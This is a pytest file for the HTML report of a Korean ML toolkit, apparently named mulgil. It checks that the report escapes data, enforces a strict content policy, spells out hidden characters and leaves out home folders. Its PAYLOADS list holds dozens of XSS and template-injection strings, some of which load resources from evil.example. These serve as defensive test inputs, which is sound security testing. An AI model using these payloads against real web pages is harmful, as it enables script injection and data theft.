"""report.html is inert whatever the data holds, and tells nothing about person or machine."""

from __future__ import annotations

import json
import re
import sys
import tracemalloc
import unicodedata
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mulgil.report import figures
from mulgil.report.language import Texts
from mulgil.report.learning import Journal
from mulgil.report.page import write_report
from mulgil.report.visible import LONGEST, attribute, clip, visible

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from fake_run import PROVENANCE, make_language_run, make_run, write_lines, write_object
from page_reader import Page, check_closed, page

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<img src=x onerror=alert(4)>",
    "<img src='https://evil.example/p.png'>",
    '"><img src=x onerror="alert(5)">',
    "'><svg/onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(8)'/>",
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+'/></svg>",
    "<math><mtext><script>alert(10)</script></mtext></math>",
    "<iframe src='javascript:alert(11)'></iframe>",
    "<iframe srcdoc='<script>alert(12)</script>'></iframe>",
    "<a href='javascript:alert(13)'>눌러 보세요</a>",
    "javascript:alert(14)",
    "JaVaScRiPt:alert(15)",
    "data:text/html,<script>alert(16)</script>",
    "vbscript:msgbox(17)",
    "<body onload=alert(18)>",
    "<details open ontoggle=alert(19)>",
    "<input autofocus onfocus=alert(20)>",
    "<video><source onerror=alert(21)></video>",
    "<audio src=x onerror=alert(22)>",
    "<object data='https://evil.example/x'></object>",
    "<embed src='https://evil.example/x'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "</style><script>alert(23)</script>",
    "</title><script>alert(24)</script>",
    "</textarea><script>alert(25)</script>",
    "</pre></code><script>alert(26)</script>",
    "<!--<script>alert(27)</script>-->",
    "--><script>alert(28)</script>",
    "<![CDATA[<script>alert(29)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><button>보내기</button></form>",
    "<marquee onstart=alert(30)>물길</marquee>",
    "<template><script>alert(31)</script></template>",
    "<noscript><p title='</noscript><script>alert(32)</script>'>",
    '" onmouseover="alert(33)',
    "' onmouseover='alert(34)",
    "` onmouseover=`alert(35)",
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}물{% endfor %}",
    "{# 지워질까 #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(36)&lt;/script&gt;",
    "&#60;script&#62;alert(37)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(38)\\u003c/script\\u003e",
    "＜script＞alert(39)＜/script＞",
    "<scr\x00ipt>alert(40)</scr\x00ipt>",
    "<img/\x0bsrc=x\x0conerror=alert(41)>",
    "\u202e</script>alert(42)\u202c",
    "\x1b]8;;https://evil.example\x1b\\눌러\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[31m빨강\x1b[0m",
    "expression(alert(43)); background:url(https://evil.example/x)",
    "<div style='background:url(https://evil.example/y)'>",
    "\ud800<script>alert(44)</script>",
    "]]>]]&gt;<b>",
    "-_-;; <3 >_< ^^ & ㅋㅋ",
]


def with_everywhere(folder: Path, words: list[str]) -> Path:
    """Put the words wherever data can reach the page."""
    run = make_run(folder, tuple(dict.fromkeys(["긍정", *words[:19]])), 120, texts=tuple(words))
    result = json.loads((run / "result.json").read_text(encoding="utf-8"))
    for i, key in enumerate(("name", "pretrained", "data", "device", "interval", "finished")):
        result[key] = words[i]
    result["notes"] = words
    result["overlap"] = {words[0]: 3, words[7]: 0}
    result["rows"][words[5]] = 9
    result["metrics"][words[4]] = {words[4]: {"value": 0.5, "low": 0.4, "high": 0.6}}
    write_object(run / "result.json", result)
    journal = [{"kind": "note", "text": w} for w in words]
    journal += [{"kind": "solve", words[3]: 1.0}, {"kind": "valid", "step": 1, words[2]: 0.5}]
    write_lines(run / "journal.jsonl", journal)
    write_object(run / "provenance.json", {f"{w} {i}": {w: [w, w]} for i, w in enumerate(words)})
    recipe = "\n".join(words).encode("utf-8", "replace")
    (run / "recipe.toml").write_bytes(recipe)
    return run


def test_payloads_are_inert(tmp_path: Path) -> None:
    """RP-01: whatever stands in the data, the page has no script, handler or address."""
    assert len(PAYLOADS) >= 50
    seen: set[str] = set()
    for start in range(0, len(PAYLOADS), 20):
        words = PAYLOADS[start : start + 20]
        words += PAYLOADS[: 20 - len(words)]
        shown = page(with_everywhere(tmp_path / f"bad-{start}", words))
        calm = page(with_everywhere(tmp_path / f"calm-{start}", [f"말 {i}" for i in range(20)]))
        # The payloads add no element: only spelt-out characters (span) may differ.
        counts, expected = (Counter(tag for tag, _ in p.elements) for p in (shown, calm))
        del counts["span"], expected["span"]
        assert counts == expected
        check_closed(shown)
        seen |= {w for w in words if w in shown.text}
    assert "<script>alert(1)</script>" in seen
    assert "{{7*7}}" in seen
    assert "&lt;script&gt;alert(36)&lt;/script&gt;" in seen


def language_with_everywhere(folder: Path, words: list[str]) -> Path:
    """Put the words wherever the data of a language run can reach the page."""
    run = make_language_run(folder, rows=len(words), texts=tuple(words))
    lines = (run / "predictions.jsonl").read_text(encoding="utf-8").splitlines()
    figures = [{"nats": 20.0 + i, "tokens": 10, "right": 3, "bytes": 60} for i in range(len(words))]
    named = [json.loads(line) | {"id": words[i]} | figures[i] for i, line in enumerate(lines)]
    write_lines(run / "predictions.jsonl", named)
    result = json.loads((run / "result.json").read_text(encoding="utf-8"))
    result |= {"task": words[0], "notes": words}
    result["metrics"] = {words[1]: {words[2]: {"value": 0.5}}}
    write_object(run / "result.json", result)
    return run


def test_payloads_are_inert_on_a_language_page(tmp_path: Path) -> None:
    """RP-01, G23: hardest and easiest texts, ids, task and metrics add no element."""
    seen: set[str] = set()
    calm = page(language_with_everywhere(tmp_path / "calm", [f"말{i}" for i in range(16)]))
    expected = Counter(tag for tag, _ in calm.elements if tag != "span")
    for start in range(0, len(PAYLOADS), 16):
        words = (PAYLOADS[start:] + PAYLOADS)[:16]
        shown = page(language_with_everywhere(tmp_path / f"bad-{start}", words))
        counts = Counter(tag for tag, _ in shown.elements if tag != "span")
        assert counts == expected
        check_closed(shown)
        seen |= {w for w in words if w in shown.text}
    assert "<script>alert(1)</script>" in seen
    assert "{{7*7}}" in seen


def test_policy_and_style_load_nothing(tmp_path: Path) -> None:
    """RP-01: the policy forbids everything but the page's own style and font."""
    source = write_report(make_run(tmp_path / "run")).read_text(encoding="utf-8")
    policy = next(a["content"] for t, a in Page(source).elements if a.get("http-equiv"))
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; font-src data:;")
    assert "<script" not in source.lower()
    style = source[source.index("<style>") : source.index("</style>")]
    assert "@import" not in style
    assert re.findall(r"url\((?!data:font/woff2;base64,d09GMg)", style) == []


@pytest.mark.parametrize(
    "odd",
    [
        *"\u202e\u2066\u200b\u200d\u2060\ufeff\x1b\x00\x07\x7f\x85\xad\u2028\u3164\u115f",
        *"\ue000\ufffd\U000e0041\ud800\udfff",
    ],
)
def test_unseen_characters_are_spelt_out(odd: str, tmp_path: Path) -> None:
    """RP-03: bidi, zero-width, control and private characters stand there as U+XXXX."""
    shown = visible(f"앞{odd}뒤")
    assert odd not in shown
    assert f"U+{ord(odd):04X}</span>뒤" in shown
    assert f"U+{ord(odd):04X}" in attribute(odd)
    assert odd not in attribute(odd)


def test_line_breaks_are_seen_in_rows_and_kept_in_recipes() -> None:
    """RP-03: a text is one line on the page, a recipe keeps its lines."""
    assert re.sub("<[^>]+>", "", visible("가\n나\t다\r라")) == "가\\n나\\t다\\r라"
    assert visible("[data]\n\tx", breaks=True) == "[data]\n\tx"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_text_is_shown_escaped(text: str) -> None:
    """RP-01, RP-03: only spans of ours; what can be seen is unchanged up to NFC."""
    shown = Page(f"<body>{visible(text)}</body>")
    assert {tag for tag, _ in shown.elements} <= {"body", "span"}
    plain = "".join(
        c for c in unicodedata.normalize("NFC", text) if c.isalnum() and ord(c) < 0x1000
    )
    assert [c for c in plain if c not in str(visible(text))] == []


def test_unseen_characters_in_a_whole_page(tmp_path: Path) -> None:
    """RP-03: no raw control or bidi character is left anywhere in the file."""
    words = [f"말{chr(c)}{i}" for i, c in enumerate([0x202E, 0x200B, 0x1B, 0xFEFF, 0x2066] * 4)]
    source = write_report(with_everywhere(tmp_path / "run", words)).read_text(encoding="utf-8")
    assert (
        re.findall(
            "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]", source
        )
        == []
    )


# ---------------------------------------------------------------- Hangul


def test_decomposed_hangul_is_shown_composed() -> None:
    """RP-06: NFD is drawn by the syllables of the embedded font."""
    assert visible(unicodedata.normalize("NFD", "됬어요 뷁")) == "됬어요 뷁"


def test_old_hangul_is_shown_as_letters() -> None:
    """RP-06: letters that every Korean font has, the code points in the tooltip."""
    assert visible("ᄒᆞᆫ글") == '<span class="jamo" title="U+1112 U+119E U+11AB">ㅎㆍㄴ</span>글'
    assert "ㆁ</span>" in visible("\u1100\u1161\u11f0")
    assert "[U+A960]" in visible("\ua960")


def test_font_has_every_syllable_under_its_own_name() -> None:
    """RP-06 and the font's licence: all syllables, no reserved name, the copyright kept."""
    pytest.importorskip("brotli", reason="reading woff2 needs brotli")
    ttlib = pytest.importorskip("fontTools.ttLib", reason="reading a font needs fonttools")
    folder = Path(figures.__file__).parents[1] / "assets"
    font = ttlib.TTFont(folder / "mulgil-sans-kr.woff2")
    wanted = {
        *range(0x20, 0x7F),
        *range(0xAC00, 0xD7A4),
        *range(0x3131, 0x318F),
        *map(ord, "–·…→“”"),
    }
    assert wanted <= set(font.getBestCmap())
    names = {record.nameID: record.toUnicode() for record in font["name"].names}
    for number in (1, 3, 4, 6, 16):
        assert "nanum" not in names[number].lower()
        assert "나눔" not in names[number]
    assert names[1] == "Mulgil Sans KR"
    assert "NHN" in names[0]
    assert (folder / "mulgil-sans-kr.woff2").stat().st_size < 400_000
    licence = (folder / "OFL.txt").read_text(encoding="utf-8")
    assert "SIL OPEN FONT LICENSE" in licence
    assert names[0] in licence


# ---------------------------------------------------------------- what stays out


def test_person_and_machine_stay_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """RP-07: no home folder, host, user name or token, wherever the files have them."""
    home = tmp_path / "canary-home"
    monkeypatch.setenv("HOME", str(home))
    run = make_run(tmp_path / "run")
    result = json.loads((run / "result.json").read_text(encoding="utf-8"))
    result["notes"] = [f"{home}/data/train.csv was read.", r"C:\Users\canary-win\a.csv was read."]
    write_object(run / "result.json", result)
    more = {"model": {"path": f"{home}/models/base"}, "argv": [f"{home}/bin/mulgil", "train"]}
    write_object(run / "provenance.json", PROVENANCE | more)
    (run / "recipe.toml").write_text(f'[data]\ntrain = "{home}/train.csv"\n', encoding="utf-8")
    source = write_report(run).read_text(encoding="utf-8")
    assert "canary" not in source
    assert "~/models/base" in source
    assert "~/train.csv" in source
    assert "4f1c9d2e7a60b35c8d0f" in source


def test_rows_are_shown_as_they_are(tmp_path: Path) -> None:
    """RP-07 is about the run, not about what people wrote in the data."""
    run = make_run(tmp_path / "run", texts=("/home/kim 폴더에 있어요",))
    assert "/home/kim 폴더에 있어요" in page(run).text


def test_long_texts_are_cut_and_say_so() -> None:
    assert "… 90 more characters" in re.sub("<[^>]+>", "", clip("가" * 10, 10, 100))
    assert "… 1,400 more characters" in re.sub("<[^>]+>", "", clip("가" * (LONGEST + 1400)))
    assert clip("가" * LONGEST) == "가" * LONGEST


def test_long_journals_and_texts_stay_small(tmp_path: Path) -> None:
    """Numbers of a journal and beginnings of texts are held, not their lines."""
    step = {
        "kind": "step",
        "loss": 2.5,
        "learning_rate": 1e-3,
        "norm": 1.5,
        "rows_per_second": 540.0,
    }
    write_lines(tmp_path / "journal.jsonl", [step | {"step": i} for i in range(10_000)])
    row = {"text": "가" * 10_000, "nats": 60.0, "tokens": 20, "right": 9, "bytes": 160}
    write_lines(tmp_path / "predictions.jsonl", [row | {"id": str(i)} for i in range(200)])
    tracemalloc.start()
    try:
        journal = Journal(figures.read_lines(tmp_path / "journal.jsonl", []))
        texts = Texts(figures.read_lines(tmp_path / "predictions.jsonl", []), False, [])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert len(journal.steps["loss"].points) == 10_000
    assert texts.rows == 200
    assert len(texts.hardest[0][1]["text"]) < 1000
    assert peak < 2e6


def test_short_texts_come_last(tmp_path: Path) -> None:
    """One hidden token decides nothing; texts in which nothing was asked are not listed."""
    line = {"id": "a", "text": "글", "nats": 30.0, "tokens": 1, "right": 0, "bytes": 3}
    long = line | {"id": "b", "nats": 40.0, "tokens": 20, "bytes": 60}
    silent = line | {"id": "c", "nats": 0.0, "tokens": 0, "bytes": 0}
    texts = Texts(enumerate([line, silent, long]), bits=False, faults=[])
    assert [row["id"] for _, row, _ in texts.hardest] == ["b", "a"]
    assert [row["id"] for _, row, _ in texts.easiest] == ["b", "a"]
    assert texts.rows == 3
